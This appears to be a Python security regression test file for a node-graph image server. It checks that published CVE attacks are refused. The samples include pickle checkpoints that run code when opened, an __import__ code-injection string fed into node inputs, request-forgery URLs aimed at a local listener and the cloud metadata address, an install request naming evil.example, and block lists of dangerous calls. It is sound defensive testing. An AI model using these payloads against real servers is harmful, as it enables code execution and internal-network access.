"""What was published against servers of this kind, tried here: content that is run, and that makes the server call.

One test for each advisory, as in ``test_advisories.py``.
"""

import ast
import asyncio
import json
import pickle
import tomllib
from collections.abc import AsyncIterator, Iterator
from io import BytesIO
from pathlib import Path
from typing import Any

import aiohttp
import pytest
import torch
from http_api import Api
from live_server import LiveServer, chain, one
from test_advisories import Attacker, png

from nodegraph.packs.locate import builtin_pack, package_sources, source_files

PROJECT = Path(__file__).parents[2] / "pyproject.toml"


@pytest.fixture
def attacker(session: aiohttp.ClientSession, server: LiveServer) -> Attacker:
    return Attacker(session, server)


class Listener:
    """What a server that can be talked into calling addresses would call."""

    def __init__(self) -> None:
        self.calls = 0
        self.url = ""

    async def heard(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.calls += 1
        writer.close()


@pytest.fixture
async def listener() -> AsyncIterator[Listener]:
    found = Listener()
    async with await asyncio.start_server(found.heard, "127.0.0.1", 0) as listening:
        found.url = f"http://127.0.0.1:{listening.sockets[0].getsockname()[1]}"
        yield found


# ---- weights that are programs ----


class Program:
    """What opening a pickle runs."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self.mark,)


def pickles(mark: Path) -> Iterator[tuple[str, bytes]]:
    """Files that run something when they are opened: the old form, a zip archive, and both under the other's name."""
    zipped = BytesIO()
    torch.save({"state_dict": Program(mark)}, zipped)
    for name in ("evil.ckpt", "evil.pt", "evil.safetensors", "evil.sft", "evil.bin"):
        for content in (pickle.dumps(Program(mark)), pickle.dumps(Program(mark), protocol=0), zipped.getvalue()):
            yield name, content


def loaded(name: str) -> dict[str, Any]:
    sample = {"class_type": "EmptyLatentImage", "inputs": {"width": 64, "height": 64, "batch_size": 1}}
    return {
        "1": {"class_type": "CheckpointLoaderSimple", "inputs": {"ckpt_name": name}},
        "2": sample,
        "3": {"class_type": "VAEDecode", "inputs": {"samples": ["2", 0], "vae": ["1", 2]}},
        "4": {"class_type": "PreviewImage", "inputs": {"images": ["3", 0]}},
    }


async def test_cve_2024_12029_models_that_are_pickles(attacker: Attacker, tmp_path: Path) -> None:
    mark, folder = tmp_path / "it ran", attacker.home / "models/checkpoints"
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in pickles(mark):
        (folder / name).write_bytes(content)
        for path in (f"/view_metadata/checkpoints?filename={name}", "/experiment/models/checkpoints"):
            await attacker.send("GET", path)
        await attacker.failed_job(loaded(name))
        assert not mark.exists()
        (folder / name).unlink()


async def test_cve_2024_12029_models_that_lie_at_an_address(attacker: Attacker, listener: Listener) -> None:
    for path in ("/api/v2/models/install", "/models/install", "/api/v1/models", "/internal/models/download"):
        status, _, _ = await attacker.send("POST", f"{path}?source={listener.url}", json={"source": listener.url})
        assert status in (404, 405)
    await attacker.refused_job(loaded(f"{listener.url}/a.safetensors"))
    assert listener.calls == 0


def calls(*names: str) -> list[tuple[Path, ast.Call]]:
    """Where nodegraph and its nodes call one of these."""
    paths = [*package_sources(), *source_files(builtin_pack())]
    assert len(paths) > 100
    return [
        (path, node)
        for path in paths
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Call) and ast.unparse(node.func) in names
    ]


def test_cve_2025_32434_no_pickle_is_opened() -> None:
    assert not calls("pickle.load", "pickle.loads", "pickle.Unpickler", "torch.jit.load", "torch.hub.load")
    assert not calls("marshal.loads", "shelve.open", "yaml.load", "yaml.unsafe_load", "dill.loads", "joblib.load")
    for path, call in calls("torch.load"):
        given = {keyword.arg: ast.unparse(keyword.value) for keyword in call.keywords}
        assert given["weights_only"] == "True", path
    for path, call in calls("np.load", "numpy.load"):
        assert "allow_pickle" not in {keyword.arg for keyword in call.keywords}, path
    assert least("torch") >= (2, 6)


def test_cve_2026_24747_nor_what_is_like_one() -> None:
    """Nothing that the server or its worker opens is torch's own format: only training reads back what it wrote."""
    assert {path.parent.name for path, _ in calls("torch.load")} == {"training"}
    for path in [*package_sources(), *source_files(builtin_pack())]:
        if not {"training", "cli"} & set(path.parts):
            imports = [line for line in path.read_text().splitlines() if line.startswith(("import ", "from "))]
            assert not any("nodegraph.training" in line for line in imports), path


def least(library: str) -> tuple[int, ...]:
    """The oldest version of a library that nodegraph may be installed with."""
    needed = tomllib.loads(PROJECT.read_text())["project"]["dependencies"]
    found = next(text for text in needed if text.startswith(f"{library}>="))
    return tuple(map(int, found.partition(">=")[2].split(".")))


# ---- text that is a program ----

PROGRAM = "__import__('pathlib').Path('MARK').touch()"


def test_cve_2024_21576_no_node_runs_text() -> None:
    assert not calls("eval", "exec", "compile", "builtins.eval", "builtins.exec", "os.system", "os.popen")
    assert not calls("subprocess.getoutput", "subprocess.getstatusoutput", "importlib.reload", "numexpr.evaluate")
    for _, call in calls("subprocess.run", "subprocess.Popen", "subprocess.call", "subprocess.check_output"):
        assert not any(given.arg == "shell" for given in call.keywords)


async def test_cve_2024_21577_expressions_as_inputs(attacker: Attacker, tmp_path: Path) -> None:
    """Every input of every node that holds a value, with a program as its value."""
    api, program = Api(attacker.session, attacker.url), PROGRAM.replace("MARK", str(tmp_path / "it ran"))
    _, body, _ = await attacker.send("GET", "/object_info")
    classes = json.loads(body)
    assert len(classes) > 50
    for name, described in classes.items():
        inputs = dict.fromkeys(
            {**described["input"].get("required", {}), **described["input"].get("optional", {})}, program
        )
        status, body, _ = await attacker.send("POST", "/api/v1/jobs", json={"prompt": one(name, **inputs)})
        assert status in (201, 400), (name, body)
        if status == 201:
            await api.end(json.loads(body)["job"])
    assert not (tmp_path / "it ran").exists()


async def test_cve_2025_31114_expressions_where_numbers_are_expected(attacker: Attacker, tmp_path: Path) -> None:
    program = PROGRAM.replace("MARK", str(tmp_path / "it ran"))
    for value in (program, f"(512, {program})", "1+1", "[1]*9**9"):
        await attacker.refused_job(
            {**chain(1), "s": {"class_type": "SolidMask", "inputs": {"value": value, "width": value, "height": 8}}}
        )
    assert not (tmp_path / "it ran").exists()


async def test_cve_2024_1561_names_of_methods(attacker: Attacker) -> None:
    for name in ("__import__", "os.system", "LoadImage.__init__", "SolidMask.__globals__", "PreviewImage.save"):
        await attacker.refused_job({**chain(1), "o": {"class_type": name, "inputs": {"images": ["m", 0]}}})
        for path in (f"/object_info/{name}", f"/api/v1/nodes/{name}"):
            status, body, _ = await attacker.send("GET", path)
            assert status == 404 or json.loads(body) == {}
    status, _, _ = await attacker.send("POST", "/component_server", json={"fn_name": "move_resource_to_block_cache"})
    assert status in (404, 405)


@pytest.mark.parametrize("path", ["/customnode/install", "/manager/reboot", "/v2/manager/queue/install", "/pip"])
async def test_cve_2024_21574_packages_that_a_request_installs(attacker: Attacker, path: str) -> None:
    body = {"pip": ["evil"], "files": ["https://evil.example/x.git"], "install_type": "git-clone"}
    for method in ("GET", "POST"):
        for prefix in ("", "/api"):
            status, _, _ = await attacker.send(method, prefix + path, json=body)
            assert status in (404, 405)


# ---- calls from inside ----


async def test_cve_2024_12882_files_that_lie_at_an_address(attacker: Attacker, listener: Listener) -> None:
    url = f"{listener.url}/a.png"
    for path in (f"/view?filename={url}&type=input", f"/view?filename=a.png&subfolder={url}", f"/userdata/{url}"):
        await attacker.refused("GET", path)
    graph = {**one("LoadImage", image=url), "o": {"class_type": "PreviewImage", "inputs": {"images": ["n", 0]}}}
    await attacker.refused_job(graph)
    original = json.dumps({"filename": url, "subfolder": "", "type": "input"})
    assert (await attacker.upload(png(), "a.png", "/upload/mask", original_ref=original))[0] in (400, 403, 404)
    assert listener.calls == 0


@pytest.mark.parametrize("path", ["/proxy=URL", "/file=URL", "/internal/proxy?url=URL", "/api/proxy/URL"])
async def test_cve_2026_28416_the_server_as_a_proxy(attacker: Attacker, listener: Listener, path: str) -> None:
    for place in (listener.url, "http://169.254.169.254/latest/meta-data/"):
        await attacker.refused("GET", path.replace("URL", place))
    assert listener.calls == 0


async def test_cve_2026_28416_addresses_inside_that_are_to_be_told(attacker: Attacker, listener: Listener) -> None:
    """The one thing that the server calls for a client, a webhook, is of the internet."""
    for url in (listener.url, "http://169.254.169.254/", "http://[::ffff:127.0.0.1]/", "http://[::127.0.0.1]/"):
        status, body, _ = await attacker.send(
            "POST", "/api/v1/jobs", json={"prompt": chain(1), "webhook": {"url": url}}
        )
        assert (status, json.loads(body)["error"]["type"]) == (400, "invalid_webhook")
    assert listener.calls == 0
